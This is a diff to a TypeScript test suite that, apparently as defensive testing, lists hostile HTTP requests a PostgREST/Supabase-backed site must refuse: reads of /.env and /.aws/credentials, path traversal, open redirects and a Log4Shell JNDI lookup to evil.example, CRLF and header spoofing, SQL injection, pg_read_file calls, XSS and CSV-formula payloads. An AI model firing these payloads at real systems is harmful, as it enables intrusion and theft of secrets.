@@ -2,7 +2,7 @@ import type { RawRequest } from "../db/raw-request.ts";
 import { sampleRows } from "../db/sample-rows.ts";
 
 /** An attack and its acceptable results. */
-export interface Try {
+export interface Attack {
   name: string;
   request: RawRequest;
   /**
@@ -20,7 +20,7 @@ const json = (body: string | object, headers: string[] = []) => ({
 const get = (path: string, ...headers: string[]): RawRequest => ({ method: "GET", path, headers });
 
 /** Files that exist, or might, and that must not be readable. */
-const files: Try[] = [
+const files: Attack[] = [
   "/.env",
   "/.git/config",
   "/.git/HEAD",
@@ -85,7 +85,7 @@ const files: Try[] = [
   "/.aws/credentials",
   "/.DS_Store",
   "/robots.txt/../.env",
-].map((path): Try => ({
+].map((path): Attack => ({
   name: `reads ${path}`,
   request: get(path),
   // Redirects to the page of that name, which does not exist.
@@ -93,47 +93,47 @@ const files: Try[] = [
 }));
 
 /** Paths of other programs, and of the operator's tools. */
-const doors: Try[] = [
+const operatorPaths: Attack[] = [
   ...[
     "/metrics", "/debug/pprof", "/server-status", "/actuator/env", "/call/rows/page", "/alive", "/backup", "/resume/1", "/api/leads?", "/api/counts",
     "/api/pulse", "/api/export?format=csv", "/enter?key=1", "/__mail", "/__dev/events", "/graphql", "/graphql/v1", "/auth/v1/token", "/auth/v1/admin/users",
     "/functions/v1/x", "/realtime/v1/websocket", "/pg/query", "/pg-meta/default/query",
-  ].map((path): Try => ({ name: `finds ${path}`, request: get(path), outcome: "refused" })),
+  ].map((path): Attack => ({ name: `finds ${path}`, request: get(path), outcome: "refused" })),
   ...[
     "find_person", "files_of_submissions", "delete_submissions", "due_submissions", "note_listed", "hold_submission", "hold_upload",
     "count_tries", "release_deliveries", "change_status", "client_address", "pg_sleep", "version", "pg_read_file", "query",
-  ].flatMap((name): Try[] => [
+  ].flatMap((name): Attack[] => [
     { name: `calls ${name}`, request: { path: `/rest/v1/rpc/${name}`, ...json({}) }, outcome: "refused" },
     { name: `calls ${name} with arguments`, request: { path: `/rest/v1/rpc/${name}`, ...json({ wanted: { emails: ["a@b.c"] } }) }, outcome: "refused" },
   ]),
 ]; // prettier-ignore
 
 /** Attempts to redirect to another site, or to inject text into a page. */
-const redirects: Try[] = [
+const redirects: Attack[] = [
   "//evil.example", "/\\evil.example", "/%2f%2fevil.example", "/%5cevil.example", "//evil.example/..", "//evil.example/about/", "/about//evil.example/",
   "/about/?next=//evil.example", "/https://evil.example/", "/.evil.example/", "/about/%0d%0aLocation:%20https://evil.example", "/about%0d%0aset-cookie:a=b/", "/index.html?//evil.example",
-].map((path): Try => ({ name: `is led by ${path}`, request: get(path), outcome: "harmless" })); // prettier-ignore
+].map((path): Attack => ({ name: `is led by ${path}`, request: get(path), outcome: "harmless" })); // prettier-ignore
 
 /** Headers that frameworks and proxies trust. */
-const headers: Try[] = [
+const headers: Attack[] = [
   ...["Host: evil.example", "X-Forwarded-Host: evil.example", "X-Original-URL: /.env", "X-Rewrite-URL: /.env", "Forwarded: host=evil.example", "X-Forwarded-Proto: https", "Origin: https://evil.example",
     "Range: bytes=0-0,1-1,2-2,3-3", "Range: bytes=-1", "Accept-Encoding: gzip;q=0, *;q=0", "Accept-Encoding: br, zstd, x", "If-None-Match: *", "If-Modified-Since: x", "Expect: 200-ok",
     "Connection: upgrade, http2-settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__", "Upgrade: websocket\r\nConnection: Upgrade", "Cookie: sb-access-token=x", "Max-Forwards: 0",
-  ].map((line): Try => ({ name: `asks for a page with ${line.split("\r\n")[0]}`, request: get("/about", line), outcome: "harmless" })),
+  ].map((line): Attack => ({ name: `asks for a page with ${line.split("\r\n")[0]}`, request: get("/about", line), outcome: "harmless" })),
   ...["X-HTTP-Method-Override: DELETE", "X-HTTP-Method: DELETE", "X-Method-Override: PATCH", "Accept-Profile: private", "Accept: application/vnd.pgrst.plan+json", "Accept: text/csv",
     "Prefer: count=exact", "Prefer: tx=rollback", "Range: 0-10", "X-Client-Info: '; drop table x; --", "Authorization: Basic YTpi", "Authorization: Bearer", "X-Supabase-Role: service_role",
-  ].map((line): Try => ({ name: `reads rows with ${line}`, request: get(`${rows}?select=*`, line), outcome: "refused" })),
+  ].map((line): Attack => ({ name: `reads rows with ${line}`, request: get(`${rows}?select=*`, line), outcome: "refused" })),
 ]; // prettier-ignore
 
-const methods: Try[] = [
+const methods: Attack[] = [
   ...["TRACE", "PUT", "DELETE", "PATCH", "PROPFIND", "MKCOL", "MOVE", "SEARCH", "PURGE", "LOCK"].map(
-    (method): Try => ({
+    (method): Attack => ({
       name: `${method} of a page`,
       request: { method, path: "/about" },
       outcome: "refused",
     }),
   ),
-  ...["TRACE", "PUT", "PATCH", "DELETE", "MERGE", "COPY"].map((method): Try => ({
+  ...["TRACE", "PUT", "PATCH", "DELETE", "MERGE", "COPY"].map((method): Attack => ({
     name: `${method} of rows`,
     request: { method, path: `${rows}?id=not.is.null`, ...json({ email: "x@y.z" }) },
     outcome: "refused",
@@ -141,20 +141,20 @@ const methods: Try[] = [
 ];
 
 /** Queries of PostgREST, supported and not. */
-const queries: Try[] = [
+const queries: Attack[] = [
   ...["?select=email", "?select=count()", "?select=*,resume_submissions(*)", "?id=eq.00000000-0000-0000-0000-000000000000", "?or=(email.like.*@*)", "?limit=1&offset=0", "?order=created_at", "?email=fts.kim",
     "?select=email&email=eq.a'%20or%201=1--", "?select=pg_sleep(5)", "?select=*::text",
-  ].map((query): Try => ({ name: `reads rows by ${query}`, request: get(rows + query), outcome: "refused" })),
+  ].map((query): Attack => ({ name: `reads rows by ${query}`, request: get(rows + query), outcome: "refused" })),
   ...["known_partners", "known_origins", "leads", "rate_limits", "salt", "deliveries", "objects", "buckets", "schema_migrations", "CONTACT_SUBMISSIONS", "contact_submissions%20", "public.contact_submissions", "%22contact_submissions%22", "pg_stat_activity", "information_schema.tables", ""]
-    .map((name): Try => ({ name: `writes into "${name}"`, request: { path: `/rest/v1/${name}`, ...json(lead) }, outcome: "refused" })),
+    .map((name): Attack => ({ name: `writes into "${name}"`, request: { path: `/rest/v1/${name}`, ...json(lead) }, outcome: "refused" })),
   ...["?on_conflict=id", "?on_conflict=email", "?columns=id,status", "?columns=spam_score", "?columns=created_at,email,source", '?columns=%22email%22%22%22', "?select=*"].map(
-    (query): Try => ({ name: `writes rows by ${query}`, request: { path: rows + query, ...json(lead, query.startsWith("?on") ? ["prefer: resolution=merge-duplicates"] : query.startsWith("?select") ? ["prefer: return=representation"] : []) }, outcome: "refused" }),
+    (query): Attack => ({ name: `writes rows by ${query}`, request: { path: rows + query, ...json(lead, query.startsWith("?on") ? ["prefer: resolution=merge-duplicates"] : query.startsWith("?select") ? ["prefer: return=representation"] : []) }, outcome: "refused" }),
   ),
 ]; // prettier-ignore
 
 const text = JSON.stringify(lead);
 /** Bodies that parsers interpret differently. */
-const bodies: Try[] = [
+const bodies: Attack[] = [
   ...Object.entries({
     "a byte order mark": `\ufeff${text.slice(0, -1)},"status":"closed"}`,
     "a comment": `/**/${text}`,
@@ -181,32 +181,32 @@ const bodies: Try[] = [
     "UTF-16": Buffer.from(text, "utf16le").toString("latin1"),
     "an array in an array": `[[${text}]]`,
     "two documents": `${text}${text}`,
-  }).map(([name, body]): Try => ({ name: `sends ${name}`, request: { path: rows, ...json(body) }, outcome: "refused" })),
+  }).map(([name, body]): Attack => ({ name: `sends ${name}`, request: { path: rows, ...json(body) }, outcome: "refused" })),
   ...["application/x-www-form-urlencoded", "text/plain", "application/xml", "text/csv", "multipart/form-data; boundary=x", "application/octet-stream", "application/json5"].map(
-    (type): Try => ({ name: `sends rows as ${type}`, request: { path: rows, headers: [`content-type: ${type}`], body: text }, outcome: "refused" }),
+    (type): Attack => ({ name: `sends rows as ${type}`, request: { path: rows, headers: [`content-type: ${type}`], body: text }, outcome: "refused" }),
   ),
   ...["<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "=cmd|'/c calc'!A1", "'; drop table contact_submissions; --", "\\u202egnp.exe"].map(
-    (name): Try => ({ name: `is called ${name}`, request: { path: rows, ...json(text.replace("Dana", name)) }, outcome: "stored" }),
+    (name): Attack => ({ name: `is called ${name}`, request: { path: rows, ...json(text.replace("Dana", name)) }, outcome: "stored" }),
   ),
 ]; // prettier-ignore
 
 const object = "/storage/v1/object";
-const storage: Try[] = [
+const storage: Attack[] = [
   ...["/resumes/1736500000000_cv.pdf", "/public/resumes/1736500000000_cv.pdf", "/authenticated/resumes/1736500000000_cv.pdf", "/sign/resumes/1736500000000_cv.pdf?token=x", "/info/resumes/1736500000000_cv.pdf",
     "/info/public/resumes/x", "/resumes/..%2f..%2foperator.json", "/resumes/%2e%2e/%2e%2e/lock"].map(
-    (path): Try => ({ name: `reads the file ${path}`, request: get(object + path), outcome: "refused" }),
+    (path): Attack => ({ name: `reads the file ${path}`, request: get(object + path), outcome: "refused" }),
   ),
   ...["/copy", "/move", "/sign/resumes", "/sign/resumes/1736500000000_cv.pdf", "/upload/sign/resumes/x.pdf", "/resumes", "/resumes/", "/list-v2/resumes"].map(
-    (path): Try => ({ name: `posts to ${path} of the files`, request: { path: object + path, ...json({ prefix: "", sourceKey: "a", destinationKey: "b" }) }, outcome: "refused" }),
+    (path): Attack => ({ name: `posts to ${path} of the files`, request: { path: object + path, ...json({ prefix: "", sourceKey: "a", destinationKey: "b" }) }, outcome: "refused" }),
   ),
   ...["/storage/v1/bucket", "/storage/v1/bucket/resumes", "/storage/v1/bucket/resumes/empty", "/storage/v1/s3/resumes", "/storage/v1/upload/resumable", "/storage/v1/render/image/public/resumes/x", "/storage/v1/iceberg/v1/config", "/storage/v1/"].map(
-    (path): Try => ({ name: `asks storage for ${path}`, request: { path, ...json({ id: "x", name: "x", public: true }) }, outcome: "refused" }),
+    (path): Attack => ({ name: `asks storage for ${path}`, request: { path, ...json({ id: "x", name: "x", public: true }) }, outcome: "refused" }),
   ),
 ]; // prettier-ignore
 
-export const strangerTries: readonly Try[] = [
+export const attacks: readonly Attack[] = [
   ...files,
-  ...doors,
+  ...operatorPaths,
   ...redirects,
   ...headers,
   ...methods,
